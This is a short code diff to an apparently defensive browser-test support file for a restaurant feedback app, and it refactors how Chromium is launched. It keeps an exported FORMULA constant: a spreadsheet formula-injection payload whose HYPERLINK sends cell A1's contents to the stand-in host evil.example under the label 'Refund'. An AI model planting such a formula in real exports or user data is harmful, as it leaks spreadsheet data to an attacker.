@@ -2,11 +2,12 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { and, eq, sql, type SQL } from 'drizzle-orm';
-import { type BrowserContext, chromium, type Page } from 'playwright-core';
+import type { BrowserContext, Page } from 'playwright-core';
 import { feedback } from '#server/db/schema/index.ts';
 import { DEMO_PASSWORD } from '#server/demo/restaurant.ts';
 import { ingest } from '#server/flows/ingest.ts';
 import { newId } from '#server/system/ids.ts';
+import { openChromium } from '#tests/support/browsers.ts';
 import { type House, openHouse, signInCookie, type Stage } from './stage.ts';
 
 export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';
@@ -22,11 +23,7 @@ export type Visitors = AsyncDisposable & {
 };
 
 export async function openVisitors(): Promise<Visitors> {
-  const browser = await chromium.launch({
-    executablePath: '/usr/bin/chromium',
-    chromiumSandbox: false,
-    args: ['--disable-gpu', '--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1'],
-  });
+  const browser = await openChromium();
   const broken: string[] = [];
   const visitor = async (locale = 'en-GB') => {
     const context = await browser.newContext({
